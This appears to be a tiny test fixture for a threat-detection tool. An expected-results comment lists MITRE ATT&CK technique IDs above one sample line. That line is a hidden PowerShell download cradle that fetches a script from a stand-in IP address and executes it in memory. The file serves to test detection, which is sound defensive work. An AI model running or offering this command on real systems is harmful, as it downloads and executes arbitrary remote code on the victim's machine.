# expect: T1059.001 T1105
Start-Process powershell.exe -ArgumentList "-NoP -W Hidden -C IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')"
